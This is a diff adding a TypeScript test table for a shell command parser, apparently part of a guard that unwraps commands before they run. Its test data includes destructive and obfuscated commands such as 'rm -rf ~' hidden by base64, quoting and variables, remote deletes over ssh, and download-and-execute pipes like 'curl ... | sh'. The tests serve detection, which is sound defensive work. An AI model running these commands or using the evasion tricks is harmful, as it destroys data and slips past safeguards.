@@ -1,0 +1,92 @@
+// The shell reader, as table rows: what runs, unwrapped, and what the guard cannot see into.
+import * as assert from 'assert';
+import { parseCommandLine } from '../../../src/engine/shell/parseCommandLine';
+
+/** Each simple command as "name arg arg" (args quote-free), in the order the shell would reach them. */
+function runs(line: string): string[] {
+  return parseCommandLine(line).commands.map((c) => [c.name, ...c.args].join(' '));
+}
+function opaqueRules(line: string): string[] {
+  return parseCommandLine(line).opaque.map((o) => o.rule);
+}
+
+describe('parseCommandLine', () => {
+  const table: Array<[string, string[]]> = [
+    ['ls -la', ['ls -la']],
+    ['a; b && c || d | e & f', ['a', 'b', 'c', 'd', 'e', 'f']],
+    ['ls\ngit status', ['ls', 'git status']],
+    ['rm \\\n  -rf x', ['rm -rf x']],
+    ["sudo -u root env FOO=1 bash -c 'rm -rf ~'", ['rm -rf ~']],
+    ['timeout -s KILL 10 nice -n 5 /usr/bin/git push -f', ['git push -f']],
+    ["r''m -rf ~", ['rm -rf ~']],
+    ['\\rm -rf ~', ['rm -rf ~']],
+    ['echo "rm -rf /"', ['echo rm -rf /']],
+    ['git commit -m "drop table"  # rm -rf /', ['git commit -m drop table']],
+    ['echo $(rm -rf x) `git push -f`', ['rm -rf x', 'git push -f', 'echo $(rm -rf x) $(git push -f)']],
+    ['X=rm; $X -rf ~', ['rm -rf ~']],
+    ["ssh -p 22 prod 'psql -c \"TRUNCATE t\"'", ['psql -c TRUNCATE t']],
+    ['docker exec -it pg psql -c x', ['psql -c x']],
+    ['kubectl exec -it pg-0 -- psql -c x', ['psql -c x']],
+    ['npx -y vercel@latest rm app', ['vercel rm app']],
+    ['pnpm dlx prisma migrate reset', ['prisma migrate reset']],
+    ['railway run -e production psql -c x', ['psql -c x']],
+    ['watch -n 5 "kubectl delete pod x"', ['kubectl delete pod x']],
+    ['echo "rm -rf ~" | sh', ['echo rm -rf ~', 'sh', 'rm -rf ~']],
+    ['echo cm0gLXJmIH4= | base64 -d | bash', ['echo cm0gLXJmIH4=', 'base64 -d', 'bash', 'rm -rf ~']],
+    ['bash <<EOF\nrm -rf ~\nEOF', ['bash', 'rm -rf ~']],
+    ['for f in *.log; do rm "$f"; done', ['rm $f']],
+    ['{ rm -rf x; }', ['rm -rf x']],
+    ['command -v rm', []],
+    ['"$VENV"/bin/python x.py', ['python x.py']],
+    ['fly ssh console -C "rm -rf /data"', ['rm -rf /data']],
+    ['gcloud compute ssh db --command "sudo rm -rf /srv"', ['rm -rf /srv']],
+  ];
+  for (const [line, expected] of table) {
+    it(`reads ${JSON.stringify(line)}`, () => assert.deepStrictEqual(runs(line), expected));
+  }
+
+  it('keeps wrappers, remote and heredoc stdin on the command', () => {
+    const [psql] = parseCommandLine("ssh db-prod 'psql <<SQL\nDROP TABLE x;\nSQL'").commands;
+    assert.strictEqual(psql.name, 'psql');
+    assert.strictEqual(psql.remote, 'db-prod');
+    assert.deepStrictEqual(psql.via, ['ssh db-prod']);
+    assert.strictEqual(psql.stdin, 'DROP TABLE x;');
+  });
+
+  it('marks variables and substitutions dynamic, globs not', () => {
+    const [rm] = parseCommandLine('rm -rf "$DIR/" * $(pwd)').commands.filter((c) => c.name === 'rm');
+    assert.deepStrictEqual(rm.dynamic, [false, true, false, true]);
+    assert.deepStrictEqual(rm.args.slice(0, 3), ['-rf', '$DIR/', '*']);
+  });
+
+  it('gives xargs and find -exec an unknown target', () => {
+    const [, rm] = parseCommandLine('ls | xargs rm -rf').commands;
+    assert.strictEqual(rm.name, 'rm');
+    assert.strictEqual(rm.dynamic[rm.dynamic.length - 1], true);
+    const found = parseCommandLine('find . -exec rm -rf {} \\;').commands.map((c) => c.name);
+    assert.deepStrictEqual(found, ['find', 'rm']);
+  });
+
+  const opaqueTable: Array<[string, string[]]> = [
+    ['curl -s https://x | sh', ['opaque.download-pipe']],
+    ['cat x.b64 | base64 -d | sh', ['opaque.decode-pipe']],
+    ['cat script.sh | bash', ['opaque.pipe-to-shell']],
+    ['bash <(curl -s https://x)', ['opaque.download-exec']],
+    ['source <(curl -s https://x)', ['opaque.download-exec']],
+    ['sh -c "$(wget -qO- https://x)"', ['opaque.download-exec']],
+    ['$CMD -rf ~', ['opaque.variable-command']],
+    ['echo "unterminated', ['opaque.parse-error']],
+    ['eval "$(pyenv init -)"', []],
+    ['source <(kubectl completion bash)', []],
+    ['echo aGVsbG8= | base64 -d', []],
+  ];
+  for (const [line, expected] of opaqueTable) {
+    it(`sees ${expected.length ? expected.join(', ') : 'nothing opaque'} in ${JSON.stringify(line)}`, () => assert.deepStrictEqual(opaqueRules(line), expected));
+  }
+
+  it('stops at a nesting depth instead of recursing forever', () => {
+    let line = 'rm -rf ~';
+    for (let i = 0; i < 12; i++) line = `bash -c ${JSON.stringify(line)}`;
+    assert.ok(opaqueRules(line).includes('opaque.too-deep') || opaqueRules(line).includes('opaque.parse-error'));
+  });
+});
